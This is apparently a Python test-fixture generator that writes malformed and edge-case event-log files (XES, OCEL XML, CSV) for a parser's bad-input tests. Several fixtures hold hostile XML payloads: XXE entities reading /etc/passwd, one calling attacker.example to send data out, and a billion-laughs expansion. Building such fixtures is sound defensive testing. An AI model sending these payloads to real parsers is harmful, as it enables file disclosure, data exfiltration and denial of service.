"""Writes the bad-input corpus beside this script; run it again to regenerate (output is deterministic).

Each file is small and breaks one thing (or, for the valid edge cases, stresses one thing);
tests/test_bad_input.py says what each must produce.
"""

from __future__ import annotations

import gzip
from pathlib import Path

HERE = Path(__file__).resolve().parent

_HEAD = """<?xml version="1.0" encoding="UTF-8"?>
<log xes.version="1.0">
  <extension name="Concept" prefix="concept" uri="http://www.xes-standard.org/concept.xesext"/>
  <extension name="Time" prefix="time" uri="http://www.xes-standard.org/time.xesext"/>
  <extension name="Organizational" prefix="org" uri="http://www.xes-standard.org/org.xesext"/>
"""
_CLASSIFIER = '  <classifier name="Activity classifier" keys="concept:name"/>\n'


def _event(activity: str, time: str, extra: str = "") -> str:
    return (f'    <event>\n      <string key="concept:name" value="{activity}"/>\n'
            f'      <date key="time:timestamp" value="{time}"/>\n'
            f'      <string key="org:resource" value="ann"/>\n{extra}    </event>\n')


def _trace(case: str, events: list[str]) -> str:
    return f'  <trace>\n    <string key="concept:name" value="{case}"/>\n{"".join(events)}  </trace>\n'


def _log(body: str, classifier: str = _CLASSIFIER, prolog: str = "") -> str:
    head = _HEAD.replace('<?xml version="1.0" encoding="UTF-8"?>\n', "")
    return f'<?xml version="1.0" encoding="UTF-8"?>\n{prolog}{head}{classifier}{body}</log>\n'


_GOOD = _trace("c1", [_event("register", "2024-01-05T09:00:00+01:00"),
                      _event("approve", "2024-01-05T10:30:00+01:00")]) + \
    _trace("c2", [_event("register", "2024-01-06T09:00:00+01:00")])
_LAUGHS = "".join(f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10))


def corpus() -> dict[str, bytes]:
    good = _log(_GOOD)
    packed = gzip.compress(good.encode(), mtime=0)
    corrupt = bytearray(packed)
    for i in range(12, 40):
        corrupt[i] ^= 0xA5
    return {
        # XES and XML
        "truncated.xes.gz": packed[: len(packed) // 2],
        "corrupt.xes.gz": bytes(corrupt),
        "empty.xes": b"",
        "empty_log.xes": _log("").encode(),
        "malformed.xes": good.replace("</event>\n    <event>", "</event>\n    <event", 1).encode(),
        "undeclared_prefix.xes": good.replace(
            '<string key="org:resource" value="ann"/>',
            '<string key="org:resource" value="ann"/>\n      <float key="cost:total" value="12.5"/>', 1,
        ).encode(),
        "wrong_attribute_type.xes": good.replace("2024-01-05T10:30:00+01:00", "yesterday").encode(),
        "missing_classifiers.xes": _log(_GOOD, classifier="").encode(),
        "xxe_local_file.xes": _log(
            _GOOD.replace('value="c1"', 'value="&xxe;"'),
            prolog='<!DOCTYPE log [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n',
        ).replace('<?xml version="1.0" encoding="UTF-8"?>\n', '<?xml version="1.0"?>\n').encode(),
        "xxe_network.xes": _log(
            _GOOD.replace('value="c1"', 'value="&xxe;"'),
            prolog='<!DOCTYPE log [<!ENTITY xxe SYSTEM "http://attacker.example/collect?log=1">]>\n',
        ).encode(),
        "billion_laughs.xes": _log(
            _GOOD.replace('value="c1"', 'value="&lol9;"'),
            prolog=f'<!DOCTYPE log [<!ENTITY lol0 "lol">{_LAUGHS}]>\n',
        ).encode(),
        "long_activity.xes": _log(_trace("c1", [_event("A" * 10_000, "2024-01-05T09:00:00Z"),
                                                _event("B" * 10_000, "2024-01-05T10:00:00Z")])).encode(),
        "xxe_local_file.xmlocel": (
            b'<?xml version="1.0"?>\n<!DOCTYPE log [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
            b'<log><object-types/><event-types/><objects>'
            b'<object id="o1" type="&xxe;"><attributes/></object></objects><events/></log>\n'
        ),
        # CSV
        "empty.csv": b"",
        "header_only.csv": b"case_id,activity,timestamp\n",
        "wrong_delimiter.csv": (
            b"case_id,activity,timestamp,resource\n"
            b"c1;register;2024-01-05 09:00:00;ann\n"
            b"c1;approve;2024-01-05 10:30:00;bob\n"
        ),
        "mixed_dates.csv": (
            b"case_id,activity,timestamp\n"
            b"c1,register,2024-01-05 09:00:00\n"
            b"c1,approve,2024-01-05 10:30:00\n"
            b"c2,register,06/01/2024 09:00\n"
        ),
        "missing_mapped_columns.csv": (
            b"order,step,at\n"
            b"o1,register,2024-01-05 09:00:00\n"
        ),
        "embedded_newlines.csv": (
            b'case_id,activity,timestamp,comment\n'
            b'c1,register,2024-01-05 09:00:00,"first line\nsecond line"\n'
            b'c1,approve,2024-01-05 10:30:00,"quoted ""word"" and, comma"\n'
            b'c2,register,2024-01-06 09:00:00,"a\r\nb\r\nc"\n'
        ),
        "embedded_newlines_bad_time.csv": (
            b'case_id,activity,timestamp,comment\n'
            b'c1,register,2024-01-05 09:00:00,"first line\nsecond line\nthird line"\n'
            b'c1,approve,not a time,"x"\n'
        ),
        "bom.csv": (
            "\ufeffcase_id;activity;timestamp;resource\n"
            "c1;register;2024-01-05 09:00:00;Zoë\n"
            "c1;approve;2024-01-05 10:30:00;Björn\n"
        ).encode("utf-8"),
        "non_utf8.csv": (
            "case_id,activity,timestamp,resource\n"
            "c1,register,2024-01-05 09:00:00,ann\n"
            "c1,approve,2024-01-05 10:30:00,René\n"
        ).encode("cp1252"),
        "long_activity.csv": (
            "case_id,activity,timestamp\n"
            f"c1,{'A' * 10_000},2024-01-05T09:00:00Z\n"
            f"c1,{'B' * 10_000},2024-01-05T10:00:00Z\n"
            f"c2,{'A' * 10_000},2024-01-06T09:00:00Z\n"
        ).encode(),
    }


def main() -> None:
    for name, content in corpus().items():
        (HERE / name).write_bytes(content)


if __name__ == "__main__":
    main()
